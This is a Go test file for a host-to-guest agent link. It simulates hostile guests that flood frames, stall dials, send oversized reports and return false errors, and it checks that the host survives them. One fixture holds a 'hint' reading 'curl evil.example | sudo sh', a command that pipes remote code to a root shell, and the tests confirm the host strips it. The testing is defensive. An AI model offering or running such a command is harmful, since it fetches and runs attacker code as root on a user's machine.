package guest_test

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"banger/api"
	"banger/internal/guest"
	"banger/internal/guest/agentproto"
	"banger/internal/guest/stdio"
	"banger/internal/guest/stream"
)

// hostile is a link to a guest that answers the greeting as an agent does, and then
// does what it likes with the session. The link is closed before the guest is waited
// for.
func hostile(t *testing.T, guestDoes func(*agentproto.Session)) *guest.Link {
	t.Helper()
	path := filepath.Join(t.TempDir(), "a.sock")
	l, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	var work sync.WaitGroup
	t.Cleanup(work.Wait)
	work.Go(func() {
		defer l.Close()
		conn, err := l.Accept()
		if err != nil {
			return
		}
		defer conn.Close()
		if s, _, err := agentproto.NewListener(conn, "b", "v").Accept(); err == nil {
			guestDoes(s)
		}
	})
	return connect(t, path)
}

// TestFloodOfPings: a guest that begins what no agent does, and reads nothing, loses
// its link, which says why; it costs no goroutine.
func TestFloodOfPings(t *testing.T) {
	for told, kind := range map[string]byte{"it sent a ping": 2, "it opened a channel": 1} {
		before := runtime.NumGoroutine()
		link := hostile(t, func(s *agentproto.Session) {
			one := []byte{0, kind, 0, 1} // version 0, SYN
			for i := range uint32(20000) {
				frame := binary.BigEndian.AppendUint64(one[:len(one):len(one)], uint64(2+2*i)<<32)
				if _, err := s.Write(frame); err != nil {
					return
				}
			}
		})
		select {
		case <-link.Done():
		case <-time.After(time.Second):
			t.Fatalf("%s: the link lives, with %d goroutines more", told, runtime.NumGoroutine()-before)
		}
		if err := link.Err(); err == nil || !strings.Contains(err.Error(), told) {
			t.Errorf("the link ended with %v, want %q", err, told)
		}
	}
}

// TestDialsToAGuestThatStandsStill: those that are given up leave but a few goroutines
// behind, however many they are; when the guest goes on, so does its link.
func TestDialsToAGuestThatStandsStill(t *testing.T) {
	goOn := make(chan struct{})
	link := hostile(t, func(s *agentproto.Session) {
		<-goOn
		mux, err := agentproto.AgentMux(s)
		if err != nil {
			return
		}
		defer mux.Close()
		for {
			conn, err := mux.Accept()
			if err != nil {
				return
			}
			go func() {
				_, _ = io.Copy(conn, conn)
				conn.Close()
			}()
		}
	})
	before := runtime.NumGoroutine()
	ctx, cancel := context.WithTimeout(t.Context(), 100*time.Millisecond)
	defer cancel()
	const dials = 1000
	conns := make(chan net.Conn, dials)
	var work sync.WaitGroup
	for range dials {
		work.Go(func() {
			if conn, err := link.Open(ctx); err == nil {
				conns <- conn
			}
		})
	}
	work.Wait()
	close(conns)
	if len(conns) > dials/2 {
		t.Fatalf("%d channels are open to a guest that accepts none", len(conns))
	}
	if more := runtime.NumGoroutine() - before; more > 200 {
		t.Errorf("%d dials left %d goroutines", dials, more)
	}
	close(goOn)
	for conn := range conns {
		conn.Close()
	}
	conn, err := link.Open(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	speak(t, conn)
}

// lister is a guest that answers a wish to listen with what is told.
func lister(told []byte) func(*agentproto.Session) {
	return func(s *agentproto.Session) {
		mux, err := agentproto.AgentMux(s)
		if err != nil {
			return
		}
		defer mux.Close()
		conn, err := mux.Accept()
		if err != nil {
			return
		}
		var req agentproto.Request
		if agentproto.ReadMessage(conn, &req) != nil {
			return
		}
		wish, err := stream.Accept(conn)
		if err != nil {
			return
		}
		pipe := stream.New(wish.ID)
		var work sync.WaitGroup
		defer work.Wait()
		work.Go(func() {
			_ = wish.Serve(pipe)
			pipe.Reset(io.ErrClosedPipe) // no other channel comes for it
		})
		if _, err := stdio.ReadOpen(pipe); err != nil {
			return
		}
		session := stdio.New(pipe, stdio.Handler{}, stdio.Stdin)
		work.Go(func() { _, _ = session.Out(stdio.Stdout).Write(told) })
		_ = session.Run()
	}
}

// TestListenerThatTellsTooMuch: what a guest tells of connections is not kept without
// end, and is an error at once.
func TestListenerThatTellsTooMuch(t *testing.T) {
	const first = `{"number":0,"address":"127.0.0.1:9"}` + "\n"
	long := `{"number":1,"address":"` + strings.Repeat("a", 4<<10)
	for name, c := range map[string]struct{ told, want string }{
		"at first":  {long, "cannot read the guest's reports of connections: a line has more than 4096 bytes"},
		"later":     {first + long, "a line has more than 4096 bytes"},
		"nonsense":  {first + "nonsense\n", "cannot read the guest's reports of connections: invalid character"},
		"a million": {first + strings.Repeat(" ", 1<<20), "a line has more than 4096 bytes"},
	} {
		t.Run(name, func(t *testing.T) {
			client := &guest.Client{Dial: hostile(t, lister([]byte(c.told))).Open}
			ctx, cancel := context.WithTimeout(t.Context(), time.Second)
			defer cancel()
			r, err := client.Listen(ctx, tcpAt(":0"))
			if err == nil {
				err = r.Serve(ctx, tcpAt("127.0.0.1:1"), func(error) {})
			}
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("got %v\nwant %q", err, c.want)
			}
		})
	}
}

// evil is what a guest says went wrong, for the host's user to type.
var evil = &api.Error{Kind: "root", Message: "it failed", Hint: "curl evil.example | sudo sh"}

// liar is a guest whose every answer is an error, to one request or to a session.
func liar(exit stdio.Exit) func(*agentproto.Session) {
	return func(s *agentproto.Session) {
		mux, err := agentproto.AgentMux(s)
		if err != nil {
			return
		}
		defer mux.Close()
		conn, err := mux.Accept()
		if err != nil {
			return
		}
		var req agentproto.Request
		if agentproto.ReadMessage(conn, &req) != nil {
			return
		}
		if req.Op == agentproto.OpHealth {
			_ = agentproto.WriteMessage(conn, agentproto.Response{Error: evil})
			_, _ = mux.Accept() // until the link ends
			return
		}
		wish, err := stream.Accept(conn)
		if err != nil {
			return
		}
		pipe := stream.New(wish.ID)
		var work sync.WaitGroup
		defer work.Wait()
		work.Go(func() {
			_ = wish.Serve(pipe)
			pipe.Reset(io.ErrClosedPipe)
		})
		if _, err := stdio.ReadOpen(pipe); err != nil {
			return
		}
		session := stdio.New(pipe, stdio.Handler{}, stdio.Stdin)
		_ = session.Exit(exit)
		_ = pipe.CloseWrite()
		_ = session.Run()
	}
}

// TestAGuestSaysNothingToType: in the answer to a request, at the end of a command,
// and as an error of its system.
func TestAGuestSaysNothingToType(t *testing.T) {
	for name, ask := range map[string]func(*testing.T) error{
		"request": func(t *testing.T) error {
			_, err := (&guest.Client{Dial: hostile(t, liar(stdio.Exit{})).Open}).Health(t.Context())
			return err
		},
		"session": func(t *testing.T) error { return execAt(t, stdio.Exit{Error: evil}) },
		"system":  func(t *testing.T) error { return execAt(t, stdio.Exit{Error: evil, Errno: 2}) },
	} {
		t.Run(name, func(t *testing.T) {
			err := ask(t)
			if e := api.AsError(err); err == nil || e.Hint != "" || e.Kind != api.KindInternal || !strings.Contains(e.Message, "it failed") {
				t.Errorf("%+v", e)
			}
		})
	}
}

func execAt(t *testing.T, exit stdio.Exit) error {
	t.Helper()
	s, err := (&guest.Client{Dial: hostile(t, liar(exit)).Open}).Exec(t.Context(), api.Exec{Argv: []string{"true"}})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
	defer cancel()
	_, err = s.Wait(ctx)
	return err
}
